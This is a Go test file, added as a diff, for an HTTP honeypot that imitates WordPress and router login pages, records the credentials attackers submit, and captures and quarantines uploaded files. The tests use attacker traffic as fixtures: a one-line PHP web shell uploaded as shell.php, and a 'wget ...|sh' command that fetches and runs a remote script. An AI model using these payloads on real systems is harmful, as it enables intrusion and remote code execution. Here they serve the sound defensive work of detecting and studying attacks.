@@ -0,0 +1,192 @@
+package honeypot
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"shadownet/events"
+	"shadownet/persona"
+	"shadownet/quarantine"
+	"shadownet/types"
+	"shadownet/webapp"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestHTTPServesAppPacksAndCapturesLogins(t *testing.T) {
+    bus := events.NewBus(16)
+    logins := collectEvents(bus, types.EventLogin)
+    defer bus.Close()
+
+    apps, err := webapp.Load([]string{"wordpress", "router"}, "")
+    require.NoError(t, err)
+    server := NewHTTPServer(nil, 0)
+    server.Events = bus
+    server.EnableApps(apps)
+    defer startWithPersona(t, server, server.BaseHoneypot, persona.Default())()
+
+    base := fmt.Sprintf("http://%s", server.Addr())
+    client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+
+    resp, err := client.PostForm(base+"/wp-login.php", url.Values{"log": {"admin"}, "pwd": {"P@ssw0rd"}})
+    require.NoError(t, err)
+    body, _ := io.ReadAll(resp.Body)
+    resp.Body.Close()
+    assert.Equal(t, http.StatusOK, resp.StatusCode)
+    assert.Equal(t, "Apache/2.4.41 (Ubuntu)", resp.Header.Get("Server"))
+    assert.Contains(t, string(body), "The password you entered for the username <strong>admin</strong> is incorrect")
+
+    ev := nextEvent(t, logins)
+    require.NotNil(t, ev.Credentials)
+    assert.Equal(t, types.Credentials{Username: "admin", Password: "P@ssw0rd", Method: types.AuthHTTPForm}, *ev.Credentials)
+    assert.Equal(t, "wordpress", ev.Fields["app"])
+    assert.Equal(t, "/wp-login.php", ev.Fields["path"])
+
+    req, _ := http.NewRequest("GET", base+"/", nil)
+    req.SetBasicAuth("admin", "1234")
+    resp, err = client.Do(req)
+    require.NoError(t, err)
+    resp.Body.Close()
+    assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
+    ev = nextEvent(t, logins)
+    assert.Equal(t, types.Credentials{Username: "admin", Password: "1234", Method: types.AuthHTTPBasic}, *ev.Credentials)
+    assert.Equal(t, "router", ev.Fields["app"])
+}
+
+func TestHTTPAnswersUnknownPathsWithPersona404(t *testing.T) {
+    server := NewHTTPServer(nil, 0)
+    defer startWithPersona(t, server, server.BaseHoneypot, persona.Default())()
+    port := types.EndpointFromAddr(server.Addr()).Port
+
+    resp, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/.env", port))
+    require.NoError(t, err)
+    body, _ := io.ReadAll(resp.Body)
+    resp.Body.Close()
+
+    assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+    assert.Contains(t, string(body), "<p>The requested URL was not found on this server.</p>")
+    assert.Contains(t, string(body), fmt.Sprintf("<address>Apache/2.4.41 (Ubuntu) Server at 127.0.0.1 Port %d</address>", port))
+
+    resp, err = http.Get(fmt.Sprintf("http://%s/", server.Addr()))
+    require.NoError(t, err)
+    body, _ = io.ReadAll(resp.Body)
+    resp.Body.Close()
+    assert.Equal(t, http.StatusOK, resp.StatusCode)
+    assert.Contains(t, string(body), "It works!")
+}
+
+func TestHTTPCapturesMultipartUploads(t *testing.T) {
+    bus := events.NewBus(16)
+    requests := collectEvents(bus, types.EventRequest)
+    uploads := collectEvents(bus, types.EventUpload)
+    defer bus.Close()
+
+    server := NewHTTPServer(nil, 0)
+    server.Events = bus
+    server.quarantine = quarantine.NewStore(t.TempDir(), 0, 0)
+    defer startWithPersona(t, server, server.BaseHoneypot, persona.Default())()
+
+    shell := []byte("<?php system($_GET['c']); ?>")
+    var body bytes.Buffer
+    form := multipart.NewWriter(&body)
+    form.WriteField("action", "upload-plugin")
+    part, _ := form.CreateFormFile("pluginzip", "shell.php")
+    part.Write(shell)
+    form.Close()
+
+    req, _ := http.NewRequest("POST", fmt.Sprintf("http://%s/wp-admin/update.php", server.Addr()), &body)
+    req.Header.Set("Content-Type", form.FormDataContentType())
+    req.AddCookie(&http.Cookie{Name: "wordpress_logged_in", Value: "admin|1700000000"})
+    resp, err := http.DefaultClient.Do(req)
+    require.NoError(t, err)
+    resp.Body.Close()
+
+    ev := nextEvent(t, requests)
+    assert.Contains(t, string(ev.Payload), "<?php system")
+    assert.Equal(t, `{"action":["upload-plugin"]}`, ev.Fields["form"])
+    assert.Equal(t, `{"wordpress_logged_in":"admin|1700000000"}`, ev.Fields["cookies"])
+    var headers map[string][]string
+    require.NoError(t, json.Unmarshal([]byte(ev.Fields["headers"]), &headers))
+    assert.Equal(t, []string{form.FormDataContentType()}, headers["Content-Type"])
+
+    upload := nextEvent(t, uploads)
+    assert.Equal(t, "shell.php", upload.Fields["filename"])
+    assert.Equal(t, quarantine.Sum(shell), upload.Fields["sha256"])
+    stored, err := os.ReadFile(upload.Fields["path"])
+    require.NoError(t, err)
+    assert.Equal(t, shell, stored)
+}
+
+func TestHTTPCapturesGzipChunkedBodies(t *testing.T) {
+    bus := events.NewBus(16)
+    requests := collectEvents(bus, types.EventRequest)
+    defer bus.Close()
+
+    server := NewHTTPServer(nil, 0)
+    server.Events = bus
+    server.MaxBodySize = 128
+    defer startWithPersona(t, server, server.BaseHoneypot, persona.Default())()
+
+    var compressed bytes.Buffer
+    zw := gzip.NewWriter(&compressed)
+    zw.Write([]byte("cmd=" + url.QueryEscape("wget http://203.0.113.9/x.sh|sh")))
+    zw.Close()
+
+    conn, err := net.Dial("tcp", server.Addr().String())
+    require.NoError(t, err)
+    defer conn.Close()
+    fmt.Fprintf(conn, "POST /cgi-bin/luci HTTP/1.1\r\nHost: router\r\nContent-Type: application/x-www-form-urlencoded\r\n"+
+        "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
+    data := compressed.Bytes()
+    half := len(data) / 2
+    fmt.Fprintf(conn, "%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", half, data[:half], len(data)-half, data[half:])
+    io.Copy(io.Discard, conn)
+
+    ev := nextEvent(t, requests)
+    assert.Equal(t, "cmd=wget+http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh", string(ev.Payload))
+    assert.Equal(t, `{"cmd":["wget http://203.0.113.9/x.sh|sh"]}`, ev.Fields["form"])
+    assert.Equal(t, "gzip", ev.Fields["content_encoding"])
+    assert.Empty(t, ev.Fields["body_truncated"])
+
+    // Bodies over the limit are cut, also after decompression
+    conn, err = net.Dial("tcp", server.Addr().String())
+    require.NoError(t, err)
+    defer conn.Close()
+    big := strings.Repeat("A", 200)
+    fmt.Fprintf(conn, "POST / HTTP/1.1\r\nHost: router\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(big), big)
+    io.Copy(io.Discard, conn)
+
+    ev = nextEvent(t, requests)
+    assert.Len(t, ev.Payload, 128)
+    assert.Equal(t, "true", ev.Fields["body_truncated"])
+}
+
+func TestHTTPConcurrentStops(t *testing.T) {
+    server := NewHTTPServer(nil, 0)
+    stop := startWithPersona(t, server, server.BaseHoneypot, persona.Default())
+
+    // Stopping from several goroutines at once, as the supervisor and the
+    // start context can, shuts the server down once without panicking
+    var wg sync.WaitGroup
+    for i := 0; i < 8; i++ {
+        wg.Add(1)
+        go func() {
+            defer wg.Done()
+            assert.NoError(t, server.Stop())
+        }()
+    }
+    wg.Wait()
+    stop()
+    assert.Equal(t, StateStopped, server.Status())
+}